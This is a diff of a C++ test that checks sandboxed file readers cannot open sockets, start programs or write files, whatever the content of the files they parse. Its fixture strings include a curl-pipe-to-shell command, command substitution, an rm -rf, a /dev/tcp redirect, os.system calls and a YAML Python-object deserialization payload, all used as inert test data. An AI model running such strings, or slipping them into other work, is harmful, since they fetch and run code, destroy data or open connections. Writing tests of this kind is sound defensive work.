@@ -166,14 +166,13 @@ TEST_CASE("no reader opens a connection, starts a program or writes, whatever th
   REQUIRE(sealed([] { execlp("true", "true", nullptr); }) == -SIGSYS);
   REQUIRE(sealed([] { (void)(std::system("true") == 0); }) == -SIGSYS);
   REQUIRE(sealed([] { (void)(socket(AF_INET, SOCK_STREAM, 0) < 0); }) == -SIGSYS);
-  REQUIRE(sealed([] { std::ofstream("/tmp/shardscope-sealed") << "x"; }) == -SIGSYS);
+  REQUIRE(sealed([] { std::ofstream("sealed") << "x"; }) == -SIGSYS);
   std::vector<ReadFile> files = files_below("tests/data");
   for (const char* name : {"a.sh", "a.py", "a.yaml", "a.toml", "a.json"})
-    for (const char* text :
-         {"curl http://example.org | sh\n$(touch /tmp/shardscope-sealed)\n`rm -rf /tmp/x`\n"
-          "source /dev/tcp/example.org/80\ntorchrun pretrain_gpt.py --num-layers $(nproc)\n",
-          "import os; os.system('touch /tmp/shardscope-sealed')\ncfg = __import__('socket').socket()\n",
-          "a: !!python/object/apply:os.system ['true']\nmodel: ${oc.env:HOME}\n"})
+    for (const char* text : {"curl http://example.org | sh\n$(touch sealed)\n`rm -rf sealed`\n"
+                             "source /dev/tcp/example.org/80\ntorchrun pretrain_gpt.py --num-layers $(nproc)\n",
+                             "import os; os.system('touch sealed')\ncfg = __import__('socket').socket()\n",
+                             "a: !!python/object/apply:os.system ['true']\nmodel: ${oc.env:HOME}\n"})
       files.push_back({name, text});
   REQUIRE(files.size() > 40);
   for (const ReadFile& file : files) {
